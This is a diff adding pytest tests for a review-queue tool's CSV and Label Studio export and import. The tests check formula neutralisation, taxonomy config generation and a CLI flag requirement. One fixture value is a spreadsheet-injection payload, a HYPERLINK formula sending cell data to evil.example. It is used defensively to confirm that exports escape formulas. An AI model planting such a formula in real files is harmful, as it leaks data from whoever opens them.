@@ -4,11 +4,13 @@ from __future__ import annotations
 
 import csv
 import json
+import xml.etree.ElementTree as ET
 from pathlib import Path
 
+import polars as pl
 import pytest
 
-from verification import QueueStoreError
+from verification import QueueStoreError, _exchange
 from verification.store import QueueStore
 
 
@@ -167,3 +169,81 @@ def test_bad_import_files_name_the_line_and_fix(store: QueueStore, tmp_path: Pat
     with pytest.raises(QueueStoreError, match="not valid JSON"):
         store.import_decisions(broken, fmt="labelstudio", reviewer="admin")
     assert store.labels().is_empty()
+
+
+FORMULAS = ("=1+1", "+SUM(A1)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR")
+
+
+@pytest.mark.parametrize("fmt", ["csv", "labelstudio"])
+def test_formula_cells_are_neutralised_on_export_and_restored_on_import(
+    make_store, make_frame, tmp_path: Path, fmt: str
+) -> None:
+    source = make_store()
+    frame = make_frame(len(FORMULAS), queues=("audit",))
+    frame = frame.with_columns(
+        sku_id=pl.Series([f"{f}-{i}" for i, f in enumerate(FORMULAS)]), title=pl.Series(list(FORMULAS))
+    )
+    source.enqueue(frame, run_id="r1")
+    for item in source.claim("audit", "=rev", limit=len(FORMULAS)):
+        source.decide(item.id, "=rev", "accept", note='=HYPERLINK("http://evil.example/?d="&A1,"x")')
+    path = tmp_path / f"out.{fmt}"
+    assert source.export_decisions(path, fmt=fmt) == len(FORMULAS)
+    if fmt == "csv":
+        cells = [cell for row in csv.reader(path.read_text(encoding="utf-8").splitlines()) for cell in row]
+    else:
+        tasks = json.loads(path.read_text(encoding="utf-8"))
+        cells = [
+            v for t in tasks for part in (t["data"], t["meta"]) for v in part.values() if isinstance(v, str)
+        ]
+    assert cells and not [c for c in cells if c.startswith(_exchange.FORMULA_PREFIXES)]
+    assert sum(c.startswith("'=HYPERLINK") for c in cells) == len(FORMULAS)
+
+    records = _exchange.read(path, fmt=fmt)
+    stored = sorted(f"{f}-{i}".strip() for i, f in enumerate(FORMULAS))  # the CSV reader strips SKUs
+    assert sorted(r["sku_id"].strip() for r in records) == stored
+    assert {r["reviewer"] for r in records} == {"=rev"}
+    assert {r["note"] for r in records} == {'=HYPERLINK("http://evil.example/?d="&A1,"x")'}
+
+
+def test_labelstudio_config_holds_every_node_of_the_taxonomy(amazon) -> None:
+    _, tax = amazon
+    root = ET.fromstring(_exchange.labelstudio_config(tax))
+    assert [el.get("name") for el in root if el.get("name")] == [
+        "text",
+        "decision",
+        "category",
+        "category_id",
+    ]
+    assert {el.get("toName") for el in root if el.get("toName")} == {"text"}
+    taxonomy_tag = root.find("Taxonomy")
+    assert taxonomy_tag is not None
+
+    paths: set[str] = set()
+
+    def walk(el: ET.Element, prefix: list[str]) -> None:
+        for child in el.findall("Choice"):
+            path = [*prefix, child.get("value", "")]
+            paths.add(" > ".join(path))
+            walk(child, path)
+
+    walk(taxonomy_tag, [])
+    assert paths == {n.path for n in tax}
+
+
+def test_labelstudio_config_command_needs_a_taxonomy(tmp_path: Path, amazon) -> None:
+    from typer.testing import CliRunner
+
+    from verification.cli import review_app
+
+    _, tax = amazon
+    runner = CliRunner()
+    out = tmp_path / "config.xml"
+    res = runner.invoke(review_app, ["export", "--format", "labelstudio-config", "-o", str(out)])
+    assert res.exit_code != 0 and "--taxonomy" in res.output
+    res = runner.invoke(
+        review_app, ["export", "--format", "labelstudio-config", "--taxonomy", tax.source, "-o", str(out)]
+    )
+    assert res.exit_code == 0 and f"for {len(list(tax))} categories" in res.output
+    assert ET.fromstring(out.read_text()).tag == "View"
+    res = runner.invoke(review_app, ["import", str(out), "--format", "labelstudio-config", "--reviewer", "x"])
+    assert res.exit_code != 0 and "not decisions" in " ".join(res.output.replace("│", " ").split())
